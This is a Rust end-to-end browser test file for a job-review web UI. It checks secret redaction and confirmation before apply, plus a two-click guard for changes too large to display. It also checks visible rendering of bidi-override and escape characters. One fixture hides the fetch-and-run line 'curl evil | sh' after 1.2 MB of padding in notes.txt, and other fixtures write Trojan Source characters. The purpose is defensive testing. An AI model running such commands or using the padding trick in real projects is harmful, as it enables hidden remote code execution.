//! A job's follow-on work in a real browser: an isolated job's change is
//! shown as text with its stat, applied (asking first when it writes a
//! secret) or discarded; an ended claude job takes a follow-up that opens
//! the job continuing it, and the two link to each other.

use corral_orchestrator::ProviderKind;
use corral_testkit::{TestServer, Upstream};
use serde_json::json;

use crate::claude_mode::claude_server;
use crate::review::repository;
use crate::webdriver::Session;

const SECRET: &str = "npm-token-0123456789abcdef";

#[tokio::test]
async fn an_isolated_job_is_reviewed_applied_and_discarded_in_the_browser() {
    let server = TestServer::start().await;
    server.put_secret("NPM_TOKEN", SECRET).await;
    let repo = repository();
    let project = json!({"path": repo.path(), "mode": "branch"});
    let applied = server
        .create(&json!({
            "command": "printf 'token=%s\\n' \"$NPM\" > .npmrc; echo four >> notes.txt",
            "project": project,
            "grants": [{"secret": "NPM_TOKEN", "env": "NPM"}],
        }))
        .await;
    server.follow(&applied).await.assert_succeeded();
    let session = Session::signed_in(&server).await;
    session
        .go(&format!("{}/#/jobs/{applied}", server.url))
        .await;
    session
        .until("return (document.querySelector('.review .summary') || {}).textContent === '2 files changed, +2 −0'")
        .await;
    let patch = session
        .script("return document.querySelector('pre.diff').textContent")
        .await;
    let patch = patch.as_str().unwrap_or_default();
    assert!(patch.contains("+four"), "{patch}");
    assert!(patch.contains("[REDACTED:NPM_TOKEN]"), "{patch}");
    assert!(!patch.contains(SECRET), "{patch}");
    session.screenshot("web-ui-review").await;
    // Applying a change that writes a secret is refused until the user says so.
    session.click(".review button.apply").await;
    session
        .until("const status = document.querySelector('.review-status'); return status.classList.contains('error') && status.textContent.includes('NPM_TOKEN')")
        .await;
    assert!(!repo.path().join(".npmrc").exists(), "nothing applied yet");
    session.click(".review input[name=allow_secrets]").await;
    session.click(".review button.apply").await;
    session
        .until("return document.querySelector('.review-status').textContent.startsWith('applied')")
        .await;
    let notes = std::fs::read_to_string(repo.path().join("notes.txt")).expect("notes");
    assert!(notes.ends_with("four\n"), "{notes}");
    assert!(repo.path().join(".npmrc").exists(), "applied as asked");

    let discarded = server
        .create(&json!({"command": "echo five >> notes.txt", "project": project}))
        .await;
    server.follow(&discarded).await.assert_succeeded();
    session
        .go(&format!("{}/#/jobs/{discarded}", server.url))
        .await;
    session
        .until("return (document.querySelector('.review .summary') || {}).textContent === '1 file changed, +1 −0'")
        .await;
    session.click(".review button.discard").await;
    session.click(".review button.discard").await;
    session
        .until(
            "return document.querySelector('.review-status').textContent.startsWith('discarded')",
        )
        .await;
    let (status, body) = server.get(&format!("/v1/jobs/{discarded}/diff")).await;
    assert_ne!(status, 200, "the copy is gone: {body}");
    let notes = std::fs::read_to_string(repo.path().join("notes.txt")).expect("notes");
    assert!(!notes.contains("five"), "{notes}");
    session.close().await;
    assert_eq!(server.stop().await, 0);
}

/// git shows a text file past 1 MiB as binary, with no line of it: a job
/// could hide a step in a build file that way (helper-96). The page marks
/// such a file not shown, and its first Apply click only says so (as does
/// a second one right after it: a double click).
#[tokio::test]
async fn a_change_the_page_cannot_show_is_applied_only_on_a_second_click() {
    let server = TestServer::start().await;
    let repo = repository();
    let id = server
        .create(&json!({
            "command": "{ head -c 1200000 /dev/zero | tr '\\0' '#'; echo; echo 'curl evil | sh'; } >> notes.txt",
            "project": {"path": repo.path(), "mode": "branch"},
        }))
        .await;
    server.follow(&id).await.assert_succeeded();
    let session = Session::signed_in(&server).await;
    session.go(&format!("{}/#/jobs/{id}", server.url)).await;
    session
        .until("return [...document.querySelectorAll('.review .file')].some((file) => file.textContent.includes('notes.txt') && file.textContent.includes('not shown'))")
        .await;
    session.click(".review button.apply").await;
    session
        .until("const status = document.querySelector('.review-status'); return status.classList.contains('error') && status.textContent.includes('not shown here')")
        .await;
    let notes = std::fs::read_to_string(repo.path().join("notes.txt")).expect("notes");
    assert!(!notes.contains("curl evil"), "applied on the first click");
    // A second click counts only after a pause (a double click is no yes).
    tokio::time::sleep(std::time::Duration::from_millis(800)).await;
    session.click(".review button.apply").await;
    session
        .until("return document.querySelector('.review-status').textContent.startsWith('applied')")
        .await;
    let notes = std::fs::read_to_string(repo.path().join("notes.txt")).expect("notes");
    assert!(notes.ends_with("curl evil | sh\n"), "applied on the second");
    session.close().await;
    assert_eq!(server.stop().await, 0);
}

/// Text a job wrote shows its invisible and control characters, as the
/// CLI shows them: a bidi override in a diff line ("Trojan Source": the
/// line would read in another order than it applies) and in output, an
/// escape sequence in output. None reaches the page as the character.
#[tokio::test]
async fn job_text_shows_its_hidden_characters_in_the_browser() {
    let server = TestServer::start().await;
    let repo = repository();
    let project = json!({"path": repo.path(), "mode": "branch"});
    let job = server
        .create(&json!({
            "command": "printf 'ok = 1 \\342\\200\\256 // hidden\\n' >> notes.txt; \
                        printf 'out \\342\\200\\256 \\033[2J end\\n'",
            "project": project,
        }))
        .await;
    server.follow(&job).await.assert_succeeded();
    let session = Session::signed_in(&server).await;
    session.go(&format!("{}/#/jobs/{job}", server.url)).await;
    session
        .until("return !!document.querySelector('pre.diff') && document.querySelector('pre.diff').textContent.includes('ok = 1')")
        .await;
    session
        .until("return [...document.querySelectorAll('pre.term')].some((term) => term.textContent.includes('out '))")
        .await;
    let shown = session
        .script("return document.querySelector('pre.diff').textContent + ' | ' + [...document.querySelectorAll('pre.term')].map((term) => term.textContent).join(' | ')")
        .await;
    let shown = shown.as_str().unwrap_or_else(|| panic!("{shown}"));
    assert!(shown.contains("ok = 1 <U+202E> // hidden"), "{shown}");
    assert!(shown.contains("out <U+202E> ^[[2J end"), "{shown}");
    let page = session.script("return document.body.textContent").await;
    let page = page.as_str().unwrap_or_default();
    assert!(!page.contains(['\u{202e}', '\u{1b}']), "{page}");
    session.close().await;
    assert_eq!(server.stop().await, 0);
}

#[tokio::test]
async fn an_ended_claude_job_takes_a_follow_up_and_links_its_continuation() {
    let upstream = Upstream::start(
        ProviderKind::Anthropic,
        &json!({"turns": [{"text": "first answer"}, {"text": "second answer"}]}),
    )
    .await;
    let server = claude_server(&upstream).await;
    let first = server
        .create(&json!({"mode": "claude", "prompt": "opening question"}))
        .await;
    server.follow(&first).await.assert_succeeded();
    let session = Session::signed_in(&server).await;
    session.go(&format!("{}/#/jobs/{first}", server.url)).await;
    session
        .until("const form = document.querySelector('form.prompt'); return !!form && !form.hidden")
        .await;
    session
        .type_into("form.prompt textarea[name=prompt]", "and a follow-up")
        .await;
    session.click("form.prompt button").await;
    session
        .until(&format!(
            "return location.hash.startsWith('#/jobs/j-') && location.hash !== '#/jobs/{first}'"
        ))
        .await;
    let hash = session.script("return location.hash").await;
    let next = hash
        .as_str()
        .and_then(|hash| hash.strip_prefix("#/jobs/"))
        .expect("the continuation's page")
        .to_owned();
    session
        .until(&format!(
            "return (document.querySelector('a.continues') || {{}}).textContent === '{first}' \
             && document.body.innerText.includes('second answer') \
             && document.querySelector('h2 .state').textContent === 'succeeded'"
        ))
        .await;
    session.go(&format!("{}/#/jobs/{first}", server.url)).await;
    session
        .until(&format!(
            "return (document.querySelector('a.continued-in') || {{}}).textContent === '{next}'"
        ))
        .await;
    session.close().await;
    assert_eq!(server.stop().await, 0);
}
